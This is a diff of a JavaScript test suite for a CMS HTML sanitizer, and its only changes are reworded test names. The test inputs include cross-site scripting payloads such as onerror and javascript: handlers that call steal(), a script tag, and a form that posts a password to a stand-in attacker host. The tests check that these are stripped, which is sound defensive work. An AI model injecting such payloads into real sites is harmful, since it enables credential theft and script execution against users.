@@ -16,7 +16,7 @@ describe('CMS content (SECURITY 16)', () => {
     '<p style="position:fixed">x</p>',
     '<form action="https://evil.example"><input name="password"></form>',
     '<math><mi xlink:href="javascript:steal()">x</mi></math>',
-  ])('runs and sends nothing: %s', (html) => {
+  ])('executes and sends nothing: %s', (html) => {
     expect(sanitizeContent(html, onMainSite)).not.toMatch(
       /script|onerror|onload|iframe|style=|<form|<input|<svg|xlink/i,
     );
@@ -29,7 +29,7 @@ describe('CMS content (SECURITY 16)', () => {
     expect(sanitizeContent('<a href="//evil.example">x</a>', onBritishSite)).toBe('<a>x</a>');
   });
 
-  it('is sanitized after placeholders and links, so that neither can inject anything [SECURITY-16]', () => {
+  it('is sanitized after placeholders and links, so that neither can inject markup [SECURITY-16]', () => {
     const attributes = { finish: '<img src=x onerror=steal()>', target: 'javascript:steal()' };
     expect(sanitizeContent('<p title="{{finish}}">{{finish}}</p>', onMainSite, { attributes })).toBe(
       '<p>&lt;img src=x onerror=steal()&gt;</p>',
@@ -47,7 +47,7 @@ describe('CMS content (SECURITY 16)', () => {
     expect(warnings).toEqual(['The link https://[broken cannot be rewritten']);
   });
 
-  it("uses the product that its block names, otherwise the page's own", () => {
+  it('uses the product named by its block, otherwise the product of the page', () => {
     const text = { name: 'RichText', props: { html: '<p>{{weight}} lb</p>' } };
     const blocks = [{ name: 'Rows', props: { productId: 2 }, slots: { default: [text] } }, text];
     const options = {
@@ -59,7 +59,7 @@ describe('CMS content (SECURITY 16)', () => {
     expect(alone?.props.html).toBe('<p>44 lb</p>');
   });
 
-  it('is sanitized in every HTML property of a block, and left alone in text properties', () => {
+  it('is sanitized in every HTML property of a block, but not in text properties', () => {
     const evil = '<b>ok</b><script>x</script>';
     const [block] = sanitizeBlocks(
       [
